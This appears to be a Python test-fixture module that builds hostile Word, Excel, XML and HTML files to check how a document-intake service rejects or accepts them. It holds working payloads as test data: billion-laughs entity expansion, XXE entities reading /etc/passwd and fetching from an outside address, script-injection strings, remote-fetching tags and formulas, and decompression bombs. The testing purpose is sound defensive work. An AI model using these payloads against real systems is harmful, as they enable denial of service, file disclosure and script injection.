"""Web pages, office files and XML that expand, nest without end, ask for other files, or run."""

from collections.abc import Mapping
from functools import partial
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from gov_disclosure_tests.hostile.case import OUTSIDE, REPORT, TITLE, Case, write_report

WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = (
    'PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"'
)
ONE_SHEET = '<sheet name="a" sheetId="1" r:id="r1"/>'
TO_SHEET = f'<Relationship Id="r1" Type="{LINKS}/worksheet" Target="worksheets/s.xml"/>'
TEMPLATE = f'<Relationship Id="r" Type="{LINKS}/attachedTemplate" Target="{OUTSIDE}" TargetMode="External"/>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
LAUGH = f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'
OUTER = f'<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "{OUTSIDE}"> %p;]>'
ASKING = (
    f'<base href="{OUTSIDE}"><link rel="stylesheet" href="{OUTSIDE}"><img src="{OUTSIDE}"><iframe src="{OUTSIDE}"></iframe>'
    f'<script src="{OUTSIDE}"></script><meta http-equiv="refresh" content="0;url={OUTSIDE}">'
)
DEEP = 100_000
SCRIPT = "<img src=x onerror=acted()><script>acted()</script>"
"""Runs a function that a test looks out for."""
ESCAPED = SCRIPT.replace("<", "&lt;").replace(">", "&gt;")


def build_docx(document: str | bytes) -> bytes:
    """A Word file with nothing but its main part."""
    return build_office({"word/document.xml": document})


def build_office(parts: Mapping[str, str | bytes]) -> bytes:
    """A container with some parts."""
    file = BytesIO()
    with ZipFile(file, "w", ZIP_DEFLATED) as container:
        for name, content in parts.items():
            container.writestr(name, content)
    return file.getvalue()


def build_xlsx(sheet: str, book: str = "") -> bytes:
    """A workbook of one sheet."""
    return build_office(
        {
            "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Override {MAIN}/></Types>',
            "xl/workbook.xml": f'{book}<workbook {SHEET} xmlns:r="{LINKS}"><sheets>{ONE_SHEET}</sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">{TO_SHEET}</Relationships>',
            "xl/worksheets/s.xml": f"{sheet}",
        }
    )


def write_word(body: str, head: str = "") -> str:
    """The main part of a Word file."""
    return f"<?xml version='1.0'?>{head}<w:document {WORD}><w:body>{body}</w:body></w:document>"


def write_paragraphs(text: str) -> str:
    """A text as paragraphs of Word."""
    lines = text.replace("&", "&amp;").replace("<", "&lt;").replace("\t", "</w:t><w:tab/><w:t>").splitlines()
    return "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in lines)


def nest_word(depth: int) -> str:
    """Tables in tables."""
    return "<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth


def write_page(note: str, head: str = "") -> bytes:
    """A report as a page, with a head of its own."""
    text = write_report(note).replace("&", "&amp;").replace("<", "&lt;")
    return f"<html><head>{head}<title>{text.split()[0]}</title></head><body><pre>{text}</pre></body></html>".encode()


def write_scripts() -> bytes:
    """A report with a script wherever something is shown of it."""
    page = write_page("脚本").decode()
    for place in (TITLE, "一、总体情况", "规章", "62044条", "199\t"):
        page = page.replace(place, f"{ESCAPED}{place}")
    return page.encode()


def write_sheet(content: str, head: str = "") -> str:
    """A sheet with some content."""
    return f"{head}<worksheet {SHEET}>{content}</worksheet>"


def write_xml(head: str) -> bytes:
    """XML that is no web page."""
    return f"<?xml version='1.0'?>{head}<x>&l9;{REPORT}</x>".encode()


def write_open(note: str, content: str, head: str = "") -> bytes:
    """A page that holds a report and something behind it."""
    return f"{head}<html><body>&l9;<pre>{write_report(note)}</pre>{content}".encode()


CASES = (
    Case(
        "laughs.docx",
        "Word: entities that expand to ten billion characters",
        "unsupported_media",
        lambda: build_docx(write_word("<w:p>&l9;</w:p>", LAUGH)),
    ),
    Case(
        "laughs.xlsx", "Excel: the same in a sheet", "unsupported_media", lambda: build_xlsx(write_sheet("&l9;", LAUGH))
    ),
    Case(
        "laughs_book.xlsx",
        "Excel: the same in the workbook",
        "unsupported_media",
        lambda: build_xlsx(write_sheet(""), LAUGH),
    ),
    Case("laughs.xml", "XML: the same", "unsupported_media", lambda: write_xml(LAUGH)),
    Case("laughs.html", "web page: the same", "accepted", lambda: write_open("笑", "", LAUGH)),
    Case(
        "outer.docx",
        "Word: entities that are a file of this machine and an address",
        "unsupported_media",
        lambda: build_docx(write_word("<w:p>&l9;</w:p>", OUTER)),
    ),
    Case("outer.xlsx", "Excel: the same", "unsupported_media", lambda: build_xlsx(write_sheet("&l9;", OUTER))),
    Case("outer.xml", "XML: the same", "unsupported_media", lambda: write_xml(OUTER)),
    Case("outer.html", "web page: the same", "accepted", lambda: write_open("外", "", OUTER)),
    Case(
        "outer.xhtml",
        "web page that says it is XML: the same",
        "accepted",
        lambda: b"<?xml version='1.0'?>" + write_open("外二", "", OUTER),
    ),
    Case(
        "laughs16.docx",
        "Word: entities, in UTF-16",
        "unsupported_media",
        lambda: build_docx(write_word("<w:p>&l9;</w:p>", LAUGH).encode("utf-16")),
    ),
    Case(
        "asking.html",
        "web page: pictures, styles, frames, scripts of another address",
        "accepted",
        partial(write_page, "问", ASKING),
    ),
    Case(
        "asking.docx",
        "Word: a template at another address",
        "accepted",
        lambda: build_office(
            {
                "word/document.xml": write_word(write_paragraphs(write_report("模板"))),
                "word/_rels/document.xml.rels": f"<Relationships>{TEMPLATE}</Relationships>",
            }
        ),
    ),
    Case(
        "asking.xlsx",
        "Excel: a formula that asks for another address",
        "not_a_report",
        lambda: build_xlsx(
            write_sheet(f'<sheetData><row r="1"><c r="A1"><f>WEBSERVICE("{OUTSIDE}")</f><v>1</v></c></row></sheetData>')
        ),
    ),
    Case(
        "scripts.html",
        "web page: scripts in its title, its issuer, its labels and beside its numbers",
        "accepted",
        write_scripts,
    ),
    Case(
        "deep.html",
        "web page: 100,000 elements inside of each other",
        "too_large",
        lambda: write_open("深", "<div>" * DEEP),
    ),
    Case(
        "deep_tables.html",
        "web page: 100,000 tables inside of each other",
        "too_large",
        lambda: write_open("深二", "<table><tr><td>" * DEEP),
    ),
    Case(
        "deep_cells.html",
        "web page: 300 tables inside of each other",
        "accepted",
        lambda: write_open("深三", "<table><tr><td>" * 300),
    ),
    Case(
        "open.html",
        "web page: 90,000 elements never closed",
        "accepted",
        lambda: write_open("粗", "<b><i><p>" * 30_000),
    ),
    Case(
        "attributes.html",
        "web page: an element of 50,000 attributes",
        "accepted",
        lambda: write_open("性", f"<p {' '.join(f'a{n}=1' for n in range(50_000))}>"),
    ),
    Case(
        "spans.html",
        "web page: cells over a million rows and columns",
        "accepted",
        lambda: write_open("宽", "<table>" + "<tr><td rowspan=1000000 colspan=1000000>1</td></tr>" * 500),
    ),
    Case(
        "cells.html",
        "web page: a row of 30,000 cells",
        "accepted",
        lambda: write_open("格", "<table><tr>" + "<td>1</td>" * 30_000),
    ),
    Case(
        "rows.html",
        "web page: a table of 30,000 rows",
        "accepted",
        lambda: write_open("行", "<table>" + "<tr><td>1</td></tr>" * 30_000),
    ),
    Case(
        "style.html",
        "web page: a rule of 500,000 names",
        "accepted",
        lambda: write_page("式", f"<style>{'.a' * 500_000}{{display:none}}</style>"),
    ),
    Case(
        "comment.html",
        "web page: a comment of 3 MB that never ends",
        "error_page",
        lambda: b"<html><body><!--" + b"<!-" * 1_000_000,
    ),
    Case("tags.html", "web page: 300,000 `<`", "not_a_report", lambda: b"<html><body>" + b"<" * 300_000),
    Case(
        "deep.docx",
        "Word: 100,000 tables inside of each other",
        "unsupported_media",
        lambda: build_docx(write_word(nest_word(DEEP))),
    ),
    Case(
        "deep_cells.docx",
        "Word: 80 tables inside of each other",
        "accepted",
        lambda: build_docx(write_word(write_paragraphs(write_report("深四")) + nest_word(80))),
    ),
    Case("part.docx", "Word: a part of 100 MB, packed to 100 kB", "too_large", lambda: build_docx(" " * 100_000_000)),
    Case(
        "picture.docx",
        "Word: a picture of 100 MB, packed to 100 kB",
        "accepted",
        lambda: build_office(
            {
                "word/document.xml": write_word(write_paragraphs(write_report("图二"))),
                "word/media/a.png": "0" * 100_000_000,
            }
        ),
    ),
    Case(
        "far.xlsx",
        "Excel: a cell at the last place of a sheet",
        "not_a_report",
        lambda: build_xlsx(write_sheet('<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')),
    ),
    Case(
        "merged.xlsx",
        "Excel: a merged cell over a whole sheet",
        "too_large",
        lambda: build_xlsx(write_sheet('<sheetData/><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')),
    ),
)
